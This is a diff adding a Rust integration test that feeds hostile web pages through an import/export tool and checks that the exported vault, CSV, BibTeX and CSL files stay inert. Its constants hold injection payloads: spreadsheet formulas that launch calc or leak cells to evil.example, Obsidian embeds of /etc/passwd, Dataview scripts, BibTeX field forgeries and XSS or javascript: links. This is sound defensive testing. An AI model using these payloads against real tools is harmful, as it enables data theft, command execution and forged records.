@@ -1026,3 +1026,142 @@ fn tidy_merges_the_search_index_of_a_library_grown_file_by_file() {
     assert_eq!(segments(&succeed(&db, &["tidy", "--status"])), 1);
     assert!(succeed(&db, &["search", "officials"]).to_lowercase().contains("officials"));
 }
+
+/// What people have put in web pages to attack the tools their readers export to: formulas
+/// for spreadsheets, brace games for BibTeX, Obsidian embeds and Dataview queries for
+/// vaults, HTML and `javascript:` links for everything. Each lands in a title, a byline,
+/// a site name, a canonical address, an actor's name or a quotation.
+const HOSTILE_TITLES: &[&str] = &[
+    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")",
+    "x}, author = {Mallory",
+    "[[../../.obsidian/app]] and ![[../../../etc/passwd]]",
+    "`$= dv.el('b', app.vault.adapter.basePath)`",
+    "Line one\r\n```dataviewjs\ndv.paragraph(1)\n```",
+    "<img src=x onerror=alert(1)>",
+];
+const HOSTILE_BYLINES: &[&str] = &[
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Mallory} @misc{evil, title={x",
+    "<b onmouseover=alert(1)>Eve</b>",
+];
+const HOSTILE_SITES: &[&str] = &["-2+3+cmd|' /C calc'!A0", "[evil](javascript:alert(1))", "\tTabbed =1+1"];
+const HOSTILE_URLS: &[&str] = &[
+    "javascript:alert(document.domain)",
+    "https://news.example/a&#13;&#10;# Injected heading&#13;&#10;<script>alert(1)</script>",
+    "https://news.example/x) [click](javascript:alert(1)",
+    "https://news.example/}&#10;@misc{evil,",
+];
+const HOSTILE_QUOTES: &[&str] = &[
+    "```dataviewjs dv.paragraph(app.vault.adapter.basePath) ``` is what he typed into the vault",
+    "the ![[../../secret]] and [[../../.obsidian/plugins]] files were all leaked to us",
+    "=HYPERLINK(\"https://evil.example\") was the cell that he shared with everyone",
+    "<script>alert(1)</script> and `$= dv.current()` were in the message he sent",
+    "}, note = {forged} was written at the end of the citation they sent",
+];
+const HOSTILE_ACTORS: &[&str] = &[
+    "=cmd|' /C calc'!A0",
+    "</b><script>alert(1)</script>",
+    "[[Index]]",
+    "`$= dv.current()`",
+    "Hezbollah}, title = {Forged",
+];
+
+fn hostile_page(i: usize) -> String {
+    let pick = |list: &[&str]| list[i % list.len()].to_string();
+    let attr = |text: String| text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
+    let text = |text: String| text.replace('&', "&amp;").replace('<', "&lt;");
+    let quote = text(pick(HOSTILE_QUOTES));
+    format!(
+        "<!doctype html><html><head><title>{title}</title>\
+         <meta name=\"author\" content=\"{byline}\"><meta property=\"og:site_name\" content=\"{site}\">\
+         <link rel=\"canonical\" href=\"{url}\"><meta property=\"article:published_time\" content=\"2024-03-0{day}\">\
+         </head><body><article><h1>{title}</h1>\
+         <p>Iran signed a cooperation agreement with Venezuela in 2022, officials said in Caracas on Monday.</p>\
+         <p>“{quote},” said Joseph Humire, a researcher who has followed the alliance for years.</p>\
+         <p>Hezbollah denied it in a statement, according to Al Mayadeen.</p></article></body></html>",
+        title = text(pick(HOSTILE_TITLES)),
+        byline = attr(pick(HOSTILE_BYLINES)),
+        site = attr(pick(HOSTILE_SITES)),
+        url = pick(HOSTILE_URLS).replace('"', "&quot;"),
+        day = 1 + i % 9,
+    )
+}
+
+/// The hostile corpus, imported with every suggestion accepted and hostile actors added,
+/// exported as a vault, a briefing, CSV, BibTeX and CSL-JSON: read as their tools read
+/// them (tests/consumers/check_inert.py), nothing in them runs, loads, links out or
+/// forges a field.
+#[test]
+fn a_hostile_library_exports_nothing_active() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("library.dossier");
+    let pages = dir.path().join("hostile");
+    std::fs::create_dir(&pages).unwrap();
+    let count = 12;
+    for i in 0..count {
+        std::fs::write(pages.join(format!("page-{i:02}.html")), hostile_page(i)).unwrap();
+    }
+    let imported = succeed(&db, &["import", pages.to_str().unwrap()]);
+    assert!(imported.contains(&format!("{count} imported")), "{imported}");
+    for name in HOSTILE_ACTORS {
+        succeed(&db, &["actors", "add", name, "--kind", "organization"]);
+    }
+    for source in 1..=count {
+        succeed(&db, &["suggestions", "accept", "--source", &source.to_string(), "--all"]);
+    }
+    let stats: serde_json::Value = serde_json::from_str(&succeed(&db, &["stats", "--json"])).unwrap();
+    assert!(stats["citations"].as_i64().unwrap() >= count as i64, "quotations became citations: {stats}");
+    let out = dir.path().join("exports");
+    for format in ["vault", "briefing", "csv", "bibtex", "csl"] {
+        succeed(&db, &["export", "--format", format, "--out", out.join(format).to_str().unwrap()]);
+    }
+    let check = venv_python("check_inert.py", &[out.to_str().unwrap()]);
+    assert!(check.status.success(), "{}{}", stdout(&check), stderr(&check));
+    let said = stdout(&check);
+    assert!(
+        said.contains("vault pages")
+            && said.contains("briefing.html")
+            && said.contains(&format!("{count} bibtex entries")),
+        "{said}"
+    );
+
+    // Control: the checker sees what it looks for (a formula cell, an embed, a script,
+    // a forged BibTeX field), so its silence above means something.
+    let planted = dir.path().join("planted");
+    for format in ["vault", "briefing", "csv", "bibtex", "csl"] {
+        copy_folder(&out.join(format), &planted.join(format));
+    }
+    let csv = planted.join("csv/actors.csv");
+    let mut text = std::fs::read_to_string(&csv).unwrap();
+    text.push_str("999,=1+1,other,,\r\n");
+    std::fs::write(&csv, text).unwrap();
+    std::fs::write(planted.join("vault/Planted.md"), "---\nid: 1\n---\n\n![[../../etc/passwd]] `$= 1`\n").unwrap();
+    let html = planted.join("briefing/briefing.html");
+    std::fs::write(&html, std::fs::read_to_string(&html).unwrap().replace("</body>", "<script>1</script></body>"))
+        .unwrap();
+    let bib = planted.join("bibtex/sources.bib");
+    std::fs::write(
+        &bib,
+        std::fs::read_to_string(&bib).unwrap().replacen("  title = {", "  publisher = {Forged},\n  title = {", 1),
+    )
+    .unwrap();
+    let control = venv_python("check_inert.py", &[planted.to_str().unwrap()]);
+    let said = stdout(&control);
+    assert!(!control.status.success(), "{said}");
+    for seen in ["formula cell", "an embed", "code_inline", "<script>", "fields Dossier never writes"] {
+        assert!(said.contains(seen), "the control's {seen} went unseen:\n{said}");
+    }
+}
+
+fn copy_folder(from: &Path, to: &Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for entry in std::fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        if entry.file_type().unwrap().is_dir() {
+            copy_folder(&entry.path(), &to.join(entry.file_name()));
+        } else {
+            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
+        }
+    }
+}
